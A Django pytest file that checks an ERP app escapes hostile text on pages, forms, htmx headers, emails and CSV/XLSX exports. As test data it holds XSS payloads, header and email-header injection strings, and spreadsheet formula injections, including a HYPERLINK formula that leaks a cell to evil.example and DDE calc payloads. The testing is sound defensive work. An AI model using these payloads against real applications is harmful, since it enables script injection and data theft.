"""Text that people and marketplaces give us is shown as text, whatever it says.

Every page is read twice, once with harmless words and once with hostile ones of the same shape.
The elements and attributes must be the same both times: text that became markup would differ.
"""

import csv
import io
import json
import logging
import re
import zipfile
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from django.core import mail as outbox
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts import links, mail
from accounts.choices import Role
from accounts.models import Company, User
from catalog.models import Offer
from core import audit, registry
from core.models import BulkRefusal, BulkRun, JobRun, SavedView
from orders.intake import AttachmentIn
from orders.models import Order
from outbox.services import pause_lane
from tests.factories.accounts import (
    BankAccountFactory,
    CompanyFactory,
    MarketplaceAccountFactory,
    UserFactory,
)
from tests.factories.catalog import OfferFactory
from tests.factories.orders import OrderFactory, address_in, customer_in, line_in
from tests.factories.outbox import AttemptFactory, CommandFactory
from tests.urlwalk import fresh_client, routes, session_row

HOSTILE = {
    "script": "<script>pwned()</script>",
    "double quotes": '" pwned=1 onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "single quotes": "' pwned=1 onmouseover='pwned()' hx-on:load='pwned()' x='",
    "markup": "</td></title></textarea></style>--><b pwned><img src=x onerror=p()><svg/onload=p>",
    "address": 'javascript:pwned()//"><a href=javascript:pwned()>',
    "template": "{{ request.user }}{% debug %}%s %(name)s {name}${7*7}&lt;i pwned&gt;&quot;",
    "right to left and long": "\u202e\u2066gpj.exe\u2069\u200f <i pwned>"
    + "Ș" * 60
    + '"><script>' * 9,
}


def harmless(text):
    """Words of the same length, broken in the same places."""
    return re.sub(r"\S", "x", text)


# --- Reading pages ----------------------------------------------------------------------------


class Shape(HTMLParser):
    """A page as its elements with the names of their attributes, in order."""

    def __init__(self, html, url=""):
        super().__init__(convert_charrefs=True)
        self.url = url
        self.elements = []
        self.said = []  # every text and every value, as a reader gets it
        self.links = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, *sorted(name for name, _value in attrs)))
        for name, value in attrs:
            self.said.append(value or "")
            if name in {"href", "src", "action", "formaction", "xlink:href"}:
                self.links.append(value or "")

    def handle_endtag(self, tag):
        self.elements.append(f"/{tag}")

    def handle_comment(self, data):
        self.elements.append(f"<!--{len(data)}")

    def handle_data(self, data):
        self.said.append(data)


def check_page(shape):
    """What no page of ours ever contains, with whatever text on it."""
    for element in shape.elements:
        names = element[1:] if isinstance(element, tuple) else ()
        bad = [n for n in names if n == "pwned" or n.startswith(("on", "hx-on")) or n == "style"]
        assert not bad, (shape.url, element)
        assert element[0] not in {"iframe", "object", "embed", "base", "style"}, shape.url
    for link in shape.links:
        target = re.sub(r"[\x00-\x20]", "", link).lower()
        assert not target.startswith(("javascript:", "vbscript:", "data:text")), (shape.url, link)


class Things:
    """One of everything, called by this text. The number keeps lists in one order."""

    def __init__(self, number, text):
        name = f"{number:02d} {text}"
        self.person = UserFactory(name=name[:120])
        self.invited = UserFactory(name=name[:120], invited=True)
        self.person.tokens.create(name=name[:80], prefix="mf_ghijkl", hash=f"{number:064d}")
        session_row(self.person, f"{number:032d}", user_agent=name[:200])
        lengths = {f.name: f.max_length for f in Company._meta.fields if f.max_length}
        free = ("name", "trade_register", "street", "city", "county", "contact_name", "phone")
        self.company = CompanyFactory(**{field: name[: lengths[field]] for field in free})
        BankAccountFactory(company=self.company, bank=name[:60])
        self.account = MarketplaceAccountFactory(company=self.company, name=name[:60])
        self.offer = OfferFactory(
            account=self.account, name=name, sku=name[:64], brand=name[:255], barcodes=text,
            catalogue_key=name[:64], problems=text, validation_text=text[:255],
            external_id=name[:64],
        )  # fmt: skip
        self.order = OrderFactory(
            account=self.account, external_id=name[:64], note=text, locker_name=text,
            remarks=(text,), cancel_requested=text, payment_detail=text, delivery_detail=text,
            flags=(text,), courier_accounts=(text,), attachments=(AttachmentIn(text, text),),
            lines=(line_in(name=text, sku=name, campaign=text, serial_numbers=text),),
            customer=customer_in(name=name, company=text, phones=(text,), tax_id=text),
            shipping=address_in(name=text, street=text, city=text, county=text, phone=text),
        )  # fmt: skip
        self.command = CommandFactory(
            account=self.account, subject_type="accounts.company", subject_id=self.company.pk,
            subject_label=name[:200], payload={"name": text}, status="failed", error=text,
            error_kind="validation", messages=[text],
        )  # fmt: skip
        AttemptFactory(command=self.command, outcome="refused", message=text, call_id=name[:64])
        pause_lane("bazaar", self.account, reason_kind="auth", reason=text)
        self.view = SavedView.objects.create(
            page="ops.audit_list", name=name[:60], owner=self.person, is_shared=True
        )
        self.entry = audit.record(
            "person.changed",
            self.person,
            by=self.person,
            label=text,
            note=text,
            changes={text[:40]: (text, text)},
        )
        self.job = JobRun.objects.create(name="core.beat", key=name[:80], log=text, error=text)
        self.bulk = BulkRun.objects.create(
            page="accounts.person_list", action="deactivate", status="done", note=text,
            refused=1, total=1, cursor=1,
        )  # fmt: skip
        BulkRefusal.objects.create(
            run=self.bulk, object_id=1, label=text[:200], reason=text, kind="refused"
        )

    def pages(self):
        person, company, account = self.person, self.company, self.account
        for name in ("detail", "edit", "role", "deactivate", "reset_two_factor"):
            yield reverse(f"accounts:person_{name}", args=[person.pk])
        yield reverse("accounts:person_link", args=[self.invited.pk])
        yield reverse("accounts:invitation_accept", args=[self.invited.pk, token_of(self.invited)])
        yield reverse("accounts:company_detail", args=[company.pk])
        yield reverse("accounts:company_edit", args=[company.pk])
        for name in ("detail", "edit", "pause"):
            yield reverse(f"accounts:marketplace_account_{name}", args=[account.pk])
        yield reverse("catalog:offer_detail", args=[self.offer.pk])
        yield reverse("orders:order_detail", args=[self.order.pk])
        yield reverse("outbox:command_detail", args=[self.command.pk])
        yield reverse("ops:audit_entry", args=[self.entry.pk])
        yield reverse("ops:job_run_page", args=[self.job.pk])
        yield reverse("core:bulk_run_page", args=[self.bulk.pk])
        for panel in registry._panels.values():
            if panel.model is not None:
                known = {User: person, Company: company, Offer: self.offer, Order: self.order}
                subject = known.get(panel.model, account)
                yield reverse("core:panel", args=[panel.page, panel.id, subject.pk])
        for name, row in (
            ("accounts_user", person),
            ("accounts_company", company),
            ("catalog_offer", self.offer),
            ("orders_order", self.order),
            ("core_auditentry", self.entry),
            ("core_jobrun", self.job),
        ):
            yield reverse(f"admin:{name}_change", args=[row.pk])


token_of = links.invitation_tokens.make_token
LISTS = [
    "accounts:person_list",
    "accounts:company_list",
    "accounts:marketplace_account_list",
    "catalog:offer_list",
    "orders:order_list",
    "outbox:command_list",
    "ops:audit_list",
    "ops:job_run_list",
]


def common_pages(things):
    """Pages that show many things, as a whole and as the part that htmx asks for."""
    for route in routes():
        if not route.parameters and not route.name.startswith(("account_", "mfa_")):
            yield reverse(route.name)
    for name in LISTS:
        for panel in ("views", "columns", "filters"):
            yield f"{reverse(name)}?_panel={panel}"
    yield f"{reverse('ops:audit_list')}?_panel=view&edit={things[0].view.pk}"


def repeating_pages(text):
    """Pages that repeat what they are asked, and find nothing."""
    sought = f"{text[:70]} zq"
    for name in ("accounts:person_list", "ops:audit_list"):
        yield f"{reverse(name)}?{urlencode({'q': sought})}"
        fields = dict.fromkeys(("page", "sort", "status", "verb"), text)
        yield f"{reverse(name)}?{urlencode(fields)}"
        yield f"{reverse(name)}?{urlencode({'_panel': 'filters', 'q': sought})}"
    yield f"{reverse('core:palette')}?{urlencode({'q': sought})}"


def read_all(texts):
    """Where → shape, in a world where everything is called by these texts."""
    owner = UserFactory(role=Role.OWNER, name=f"zz {texts['double quotes']}"[:120])
    client = fresh_client(owner)
    things = {name: Things(number, text) for number, (name, text) in enumerate(texts.items())}
    found = {}

    def read(where, urls, **headers):
        for number, url in enumerate(urls):
            response = client.get(url, headers=headers)
            assert response.status_code in {200, 204, 302, 403, 404, 405}, (where, url)
            for name in ("HX-Trigger", "HX-Push-Url", "Location", "HX-Redirect"):
                assert "\n" not in response.headers.get(name, ""), (url, name)
            if response["Content-Type"].startswith("text/html"):
                found[where, number] = Shape(response.content.decode(), url)

    read("everything", common_pages(list(things.values())))
    read("parts", common_pages(list(things.values())), hx_request="true")
    for name, each in things.items():
        read(name, each.pages())
        read(f"asked for {name}", repeating_pages(texts[name]))
    return found


@pytest.mark.slow
def test_hostile_text_stays_text(db):
    readings = []
    for texts in ({name: harmless(text) for name, text in HOSTILE.items()}, HOSTILE):
        with transaction.atomic():
            readings.append(read_all(texts))
            transaction.set_rollback(True)
    calm, hostile = readings
    assert calm.keys() == hostile.keys()
    for where, shape in hostile.items():
        check_page(shape)
        assert shape.elements == calm[where].elements, (where, shape.url)
    for name, text in HOSTILE.items():
        assert_shown(name, text, hostile)


def assert_shown(name, text, pages):
    """The text is really there: on the pages of what is called so, and in the lists."""
    start = " ".join(text[:20].split())
    shown = {
        shape.url.split("/")[1]
        for where, shape in pages.items()
        if where[0] in {name, "everything"}
        and any(start in " ".join(said.split()) for said in shape.said)
    }
    expected = {"people", "companies", "marketplaces", "audit", "jobs", "bulk", "panels", "admin"}
    assert shown >= expected, name


@pytest.fixture(autouse=True)
def quiet():
    logging.disable(logging.CRITICAL)
    yield
    logging.disable(logging.NOTSET)


PIECES = [
    "<", ">", '"', "'", "&", "/", "=", " ", "`", "<script>", "</script>", "<!--", "-->", "pwned",
    "onload=", "{{", "}}", "{%", "\u202e", "\u2028", "&#34;", "&lt", "\\", "<svg/", "javascript:",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), min_size=3, max_size=20).map("".join))
@settings(
    max_examples=15,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_any_mixture_stays_text_in_a_list_and_on_a_page(db, text):
    text = " ".join(text.split()) or "x"
    for calm, hostile in zip(few_pages(harmless(text)), few_pages(text), strict=True):
        check_page(hostile)
        assert hostile.elements == calm.elements, text


def few_pages(words):
    with transaction.atomic():
        owner = UserFactory(role=Role.OWNER, name=words[:120])
        company = CompanyFactory(name=words[:100], city=words[:60])
        audit.record("company.changed", company, by=owner, label=words, note=words)
        client = fresh_client(owner)
        urls = ["/people/", "/companies/", company.get_absolute_url(), "/audit/", "/"]
        shapes = [Shape(client.get(url).content.decode(), url) for url in urls]
        transaction.set_rollback(True)
    return shapes


@pytest.mark.parametrize(
    "place", ["core.columns.escape", "django.template.base.conditional_escape"]
)
def test_the_comparison_would_notice(db, monkeypatch, place):
    """With escaping switched off in columns, or in templates, it must fail."""
    monkeypatch.setattr(place, lambda text: text)
    calm, hostile = few_pages(harmless(HOSTILE["script"])), few_pages(HOSTILE["script"])
    assert [s.elements for s in calm] != [s.elements for s in hostile]


# --- Forms that come back with what was typed ---------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_refused_form_repeats_text_as_text(db, owner, text):
    client = fresh_client(owner)
    forms = [
        (reverse("accounts:person_invite"), {"name": text, "email": text}),
        (reverse("accounts:company_add"), {"name": text, "tax_id": text, "email": text}),
        (reverse("accounts:token_create"), {"name": text, "scopes": text}),
        (reverse("accounts:profile"), {"name": text, "language": text, "time_zone": text}),
    ]
    for url, fields in forms:
        pages = []
        for words in (harmless(text), text):
            response = client.post(url, {name: words for name in fields})
            assert response.status_code == 422, url
            pages.append(Shape(response.content.decode(), url))
        check_page(pages[1])
        assert pages[0].elements == pages[1].elements, url


# --- Beyond HTML ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [*HOSTILE.values(), "a\r\nSet-Cookie: pwned=1", "ș\u2028\U0001f4a5"]
)
def test_a_toast_carries_any_text_in_its_header(db, owner, text):
    person = UserFactory(name=text[:100])
    response = fresh_client(owner).post(
        reverse("accounts:person_list"),
        {"action": "deactivate", "ids": [person.pk], "step": "run"},
        headers={"HX-Request": "true"},
    )
    raw = response["HX-Trigger"]
    assert raw.isascii()
    assert "\r" not in raw
    assert "\n" not in raw
    assert json.loads(raw)["toast"]["message"]
    assert "pwned" not in response.cookies


@pytest.mark.parametrize("text", ["Ana\r\nBcc: thief@example.com", '<b>O\'Neil & "Sons"</b>'])
def test_a_mail_is_neither_steered_nor_spoilt(db, text):
    person = UserFactory(name=text[:100], language="en")
    mail.send("invitation", person, {"link": "https://erp.example.com/x/", "days": 7})
    sent = outbox.outbox[-1]
    assert sent.recipients() == [person.email]
    assert "Bcc" not in sent.message()
    assert "&#x27;" not in sent.subject + sent.body
    assert "&lt;" not in sent.subject + sent.body
    html = Shape(sent.alternatives[0][0])
    calm = Shape(sent.alternatives[0][0].replace("&lt;b&gt;", "").replace("&lt;/b&gt;", ""))
    assert html.elements == calm.elements


FORMULAS = [
    "=HYPERLINK(\"https://evil.example?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1+1",
]  # fmt: skip


STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋")


def exported(client, name, kind):
    response = client.get(reverse(name), {"export": kind, "view": "all"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_exported_cell_starts_a_formula(db, owner, formula):
    person = UserFactory(name=formula)
    company = CompanyFactory(name=formula, city=formula, trade_register=formula[:20])
    account = MarketplaceAccountFactory(name=formula, company=company)
    OfferFactory(account=account, name=formula, sku=formula, problems=formula, barcodes=formula)
    OrderFactory(
        account=account, lines=(line_in(name=formula, sku=formula),), locker_name=formula,
        customer=customer_in(name=formula), shipping=address_in(city=formula),
    )  # fmt: skip
    audit.record("person.changed", person, by=person, label=formula, note=formula)
    JobRun.objects.create(name="core.beat", key=formula, error=formula)
    CommandFactory(
        account=account, status="failed", error=formula, subject_type="accounts.company",
        subject_id=company.pk, subject_label=formula,
    )  # fmt: skip
    client = fresh_client(owner)
    for name in LISTS:
        text = exported(client, name, "csv").decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 1, name
        for cell in (cell for row in rows for cell in row):
            assert not cell.lstrip(" ").startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋")
            )
        with zipfile.ZipFile(io.BytesIO(exported(client, name, "xlsx"))) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert 't="str"' not in sheet
